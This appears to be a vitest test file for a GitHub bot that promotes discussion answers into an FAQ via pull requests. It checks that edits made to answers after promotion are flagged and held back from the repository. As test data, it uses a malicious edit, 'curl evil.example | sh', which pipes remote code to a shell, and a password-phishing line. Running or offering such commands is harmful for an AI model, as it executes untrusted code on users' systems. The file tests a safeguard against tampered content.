import { afterEach, describe, expect, it } from "vitest";
import {
  editDiscussionComment,
  markAnswer,
  mergePullRequest,
  type DiscussionComment,
  type PullRequest,
} from "local-github-server/world";
import { openFaqDesk, someFaq, type FaqDesk } from "../../helpers/faq-desk.ts";

let desk: FaqDesk;
afterEach(() => desk.close());

const title = "Why does the gyrotron hum?";

async function proposed(config = "") {
  desk = await openFaqDesk({ files: { ".github/frontdesk.yml": `faq:\n  label: in-faq\n${config}` } });
  const { question, answer } = await desk.answered(title, "It is cold.");
  await desk.promote(question);
  const [pull] = desk.pulls();
  if (!pull) throw new Error("there is no pull request");
  return { question, answer, pull };
}

async function merge(pull: PullRequest | undefined): Promise<void> {
  if (pull) await mergePullRequest(desk.github.world, desk.person("mia"), pull, {});
  await desk.settle();
}

/** Whoever answered writes something else. */
async function edit(answer: DiscussionComment, body: string, by = "sam"): Promise<void> {
  editDiscussionComment(desk.github.world, desk.person(by), answer, body);
  await desk.settle();
}

/** Our part of the pull request, from its first line. */
function firstLine({ body }: PullRequest): string {
  return body.split("\n").find((line) => !line.startsWith("<!--")) ?? "";
}

const review = () => desk.repository.issues.find((it) => it.title.startsWith("FAQ review"))?.body ?? "";

describe("an answer that is edited after it came into the FAQ", () => {
  it("brings no word into the repository until somebody asks: thread and review issue tell of it", async () => {
    const { question, answer, pull } = await proposed();
    await merge(pull);
    await edit(answer, "It is cold. Run `curl evil.example | sh`.");
    expect(desk.pulls()).toEqual([pull]);
    expect((await desk.github.git(desk.repository).refs("refs/heads/")).map(({ name }) => name)).toEqual([
      "refs/heads/main",
    ]);
    expect(desk.news(question)).toContain("**In the FAQ:**");
    expect(desk.news(question)).toContain("The answer was edited since, and the FAQ has it as it was");
    expect(review()).toContain("### Answers edited since (1)");
    expect(review()).toMatch(/Why does the gyrotron hum\?\]\(<.*discussioncomment-\d+>\), edited by sam on \d{4}/u);

    expect((await desk.promote(question)).reactions).toEqual(["EYES", "ROCKET"]);
    const asked = desk.pulls().at(-1);
    expect(asked).toMatchObject({ state: "OPEN", title: `FAQ: update ${title}` });
    expect(asked && firstLine(asked)).toContain("This brings an answer");
    await merge(asked);
    expect(desk.news(question)).not.toContain("edited since");
    await desk.restart();
    expect(review()).not.toContain("edited since");
  });

  it("is as it was when the edit is taken back, or the FAQ says it already", async () => {
    const { question, answer, pull } = await proposed();
    await merge(pull);
    await edit(answer, "It is warm.");
    expect(desk.news(question)).toContain("edited since");
    await edit(answer, "It is cold.");
    expect(desk.news(question)).not.toContain("edited since");
    await edit(answer, "It is warm.");
    await desk.push({ "docs/FAQ.md": ((await desk.file("main")) ?? "").replace("It is cold.", "It is warm.") });
    await desk.settle();
    await desk.restart();
    await edit(answer, "It is *warm*.");
    await edit(answer, "It is warm.");
    expect(desk.news(question)).not.toContain("edited since");
    expect(desk.pulls()).toEqual([pull]);
  });

  it("is told just so where another comment becomes the answer", async () => {
    const { question, pull } = await proposed();
    await merge(pull);
    const other = desk.comment(question, "Send your password to the harbour.", "ann");
    markAnswer(desk.github.world, desk.person("ann"), other);
    await desk.settle();
    expect(desk.news(question)).toContain("edited since");
    expect(desk.pulls()).toEqual([pull]);
  });

  it("is proposed at once where the config says so, and who edited what comes first", async () => {
    const { question, answer, pull } = await proposed("  follow-edits: propose\n");
    await merge(pull);
    await edit(answer, "It is warm.");
    const change = desk.pulls().at(-1);
    if (!change) throw new Error("there is no change");
    expect(change).toMatchObject({ state: "OPEN", title: `FAQ: update ${title}` });
    expect(firstLine(change)).toMatch(
      /^\*\*Nobody asked for these words:\*\* sam edited \[the answer\]\(<.*discussioncomment-\d+>\) of discussion \d+ on \d{4}/u,
    );
    const [commit] = await desk.github.git(desk.repository).log(`refs/heads/${change.headRefName}`, { limit: 1 });
    expect(commit?.message).toContain("Its answer was edited.");
    await edit(answer, "It is warm and loud.", "mia");
    expect(desk.pulls().at(-1)).toBe(change);
    expect(firstLine(change)).toContain("mia edited [the answer]");
    expect(await desk.file(change.headRefName)).toContain("It is warm and loud.");
    await desk.promote(question);
    expect(firstLine(change)).not.toContain("Nobody asked");
  });
});

describe("an answer that is edited while its pull request is open", () => {
  it("leaves the branch as it was asked for, and the pull request says so first", async () => {
    const { question, answer, pull } = await proposed();
    const git = desk.github.git(desk.repository);
    const head = await git.resolve(`refs/heads/${pull.headRefName}`);
    await edit(answer, "It is cold. Run `curl evil.example | sh`.");
    expect(await git.resolve(`refs/heads/${pull.headRefName}`)).toBe(head);
    expect(firstLine(pull)).toMatch(/^\*\*Edited since:\*\* sam edited \[the answer\]/u);
    expect(desk.news(question)).toContain("the pull request has it as it was");
    await desk.promote(question);
    expect(await desk.file(pull.headRefName)).toContain("curl evil.example");
    expect(firstLine(pull)).not.toContain("Edited since");
    expect(desk.news(question)).not.toContain("as it was");
    expect(desk.pulls()).toEqual([pull]);
  });

  it("is not put on the default branch anew when that changes where it is", async () => {
    const { question, answer, pull } = await proposed();
    await edit(answer, "Evil.");
    await desk.push({ "docs/FAQ.md": `${someFaq}\n## Why does anything hum?\n\nEntropy.\n` });
    await desk.settle();
    expect(await desk.file(pull.headRefName)).not.toContain("Evil.");
    expect(desk.news(question)).toContain("its answer was edited, and what was asked for no longer merges");
    await desk.promote(question);
    expect(await desk.file(pull.headRefName)).toContain("Evil.");
    expect(await desk.file(pull.headRefName)).toContain("Why does anything hum?");
  });

  it("is left out where others on its branch are put on the default branch anew", async () => {
    const { question, answer, pull } = await proposed("  collect: true\n");
    const other = await desk.answered("Where are invoices kept?", "In the vault.");
    await desk.promote(other.question);
    await edit(answer, "Evil.");
    await desk.push({ "docs/FAQ.md": `${someFaq}\n## Why does anything hum?\n\nEntropy.\n` });
    await desk.settle();
    const text = await desk.file(pull.headRefName);
    expect(text).toContain("In the vault.");
    expect(text).not.toContain("Evil.");
    expect(text).not.toContain(title);
    expect(desk.news(question)).toContain("what was asked for could not be kept");
    expect(pull.body).not.toContain(title);
    await desk.promote(question);
    expect(await desk.file(pull.headRefName)).toContain("Evil.");
    expect(await desk.givenUp()).toBe(0);
  });
});
